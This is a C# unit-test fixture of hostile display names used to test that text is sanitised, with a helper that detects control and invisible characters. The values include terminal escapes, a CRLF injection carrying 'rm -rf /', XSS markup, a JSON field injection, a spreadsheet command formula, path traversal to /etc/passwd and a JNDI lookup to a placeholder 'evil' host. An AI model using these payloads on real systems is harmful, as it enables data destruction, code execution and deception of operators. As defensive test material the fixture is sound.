namespace KillSwitch.Engine.Tests.Hostile;

/// <summary>Names that people and programs might choose to break or mislead whoever shows them.</summary>
internal static class HostileTexts
{
    public static TheoryData<string, string> All => new()
    {
        { "a terminal's escape", "\u001b[2J\u001b[31mrole/agent\u001b[0m" },
        { "a window's title", "\u001b]0;pwned\u0007" },
        { "an escape of one byte", "\u009b31m" },
        { "a line that begins anew", "role/a\r\nRestore  rm -rf /" },
        { "a line of another kind", "role/a\u2028Restore  rm -rf /\u2029" },
        { "right to left", "role/\u202Etnega\u202C" },
        { "an isolate", "\u2066role/a\u2069" },
        { "nothing that can be seen", "\u200B\uFEFF\u3164\u2800" },
        { "tags that nobody sees", "role/a\U000E0041\U000E0042" },
        { "NUL", "role/a\0b" },
        { "half of a pair", "role/a\uD800b" },
        { "markup", "<script>alert(1)</script><img src=x onerror=alert(1)>" },
        { "the end of an attribute", "\"><svg onload='x'>&amp;" },
        { "the end of a string", "x\",\"state\":\"released\",\"y\":\"" },
        { "a formula", "=cmd|' /C calc'!A0" },
        { "a path", "../../../etc/passwd" },
        { "Spectre's markup", "[red]x[/] [link=https://evil]y[/] [" },
        { "a format", "{0} %s %n ${jndi:ldap://evil}" },
        { "a letter of another script", "rоle/agent" },
        { "very long", new string('x', 20_000) },
        { "nothing", "" },
    };

    /// <summary>Whether a text holds what steers a terminal or shows nothing; ends of lines are the message's own.</summary>
    public static bool Steers(string text) =>
        text.Any(c => (char.IsControl(c) && c != '\n') || c is '\u2028' or '\u2029' or '\u200B' or '\uFEFF' or '\u3164' or '\u2800'
            or (>= '\u202A' and <= '\u202E') or (>= '\u2066' and <= '\u2069') or (>= '\uD800' and <= '\uDFFF'));
}
